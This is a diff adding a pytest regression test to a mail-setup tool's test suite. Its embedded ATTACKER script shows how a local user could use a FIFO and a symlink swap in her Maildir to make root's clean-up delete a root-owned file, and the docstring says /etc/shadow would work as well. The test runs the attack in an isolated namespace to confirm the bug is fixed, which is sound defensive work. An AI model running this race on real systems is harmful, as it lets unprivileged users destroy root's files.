@@ -108,6 +108,61 @@ def test_init_on_a_real_host_is_not_hung_by_a_fifo_in_the_admins_maildir(tmp_pat
         pytest.skip("could not set up the namespace: " + proc.stderr.strip())
 
 
+# alice's side: a FIFO named like root's file waits in ~/Maildir/new; root's probe reads it; she feeds
+# it the smoke message (it holds the token), so the probe counts it as delivered; then she points new/
+# at root's folder before the clean-up unlinks "delivered" files by path.
+ATTACKER = r"""
+import os, sys, time
+victim, new = sys.argv[1], "/home/alice/Maildir/new"
+os.mkfifo(os.path.join(new, "precious"))
+deadline = time.time() + 90
+while not [f for f in os.listdir(new) if f != "precious"]:
+    if time.time() > deadline:
+        sys.exit("no mail came")
+    time.sleep(0.005)
+mail = [f for f in os.listdir(new) if f != "precious"][0]
+data = open(os.path.join(new, mail), "rb").read()
+with open(os.path.join(new, "precious"), "wb") as fifo:  # opens once root's probe reads it
+    fifo.write(data)
+time.sleep(0.2)
+os.rename(new, new + ".old")
+os.symlink(victim, new)
+"""
+
+
+@pytest.mark.skipif(not shutil.which("unshare"), reason="needs unshare")
+def test_init_on_a_real_host_never_lets_the_admin_make_root_delete_a_file(tmp_path: Path):
+    """The smoke test's clean-up unlinks every file it counted as delivered by its path through
+    ~alice/Maildir/new. It counts any file there holding the token (read as root, FIFOs included), and
+    alice can feed one the token; she then makes new/ a link to a folder of root's, and root's
+    `mailsetup init` deletes root's file of the same name there (here victim/precious; /etc/shadow
+    just as well). Expected: root's file is still there."""
+    from test_real_smtpd import ensure_system_user
+
+    ensure_system_user("alice")
+    victim = tmp_path / "victim"
+    victim.mkdir()
+    (victim / "precious").write_text("root's data\n")
+    (victim / "precious").chmod(0o600)
+    upper, work = tmp_path / "upper", tmp_path / "work"
+    upper.mkdir()
+    work.mkdir()
+    script = ('mount -t overlay overlay -o "lowerdir=/etc,upperdir=$1,workdir=$2" /etc || exit 99; '
+              'mount -t tmpfs -o mode=0755 tmpfs /home || exit 99; '
+              'mkdir -m 700 /home/alice && chown alice:alice /home/alice && '
+              "runuser -u alice -- sh -c 'mkdir -p ~/Maildir/new ~/Maildir/tmp ~/Maildir/cur' || exit 98; "
+              'runuser -u alice -- python3 -c "$4" "$3" & sleep 0.5; '
+              'shift 4; "$@"; rc=$?; wait; exit $rc')
+    proc = subprocess.run(
+        ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", str(upper), str(work),
+         str(victim), ATTACKER, MAILSETUP, "init", "--yes", "--domain", "example.test", "--os", "debian",
+         "--admin", "alice"],
+        capture_output=True, text=True, timeout=180, env=dict(os.environ, NO_COLOR="1"), stdin=subprocess.DEVNULL)
+    if proc.returncode in (98, 99):
+        pytest.skip("could not set up the namespace: " + proc.stderr.strip())
+    assert (victim / "precious").exists(), f"root deleted victim/precious through alice's link:\n{proc.stdout}"
+
+
 # --- 2. --aliases and `mailsetup aliases SOURCE` follow a user's link to root's secret ------------
 
 
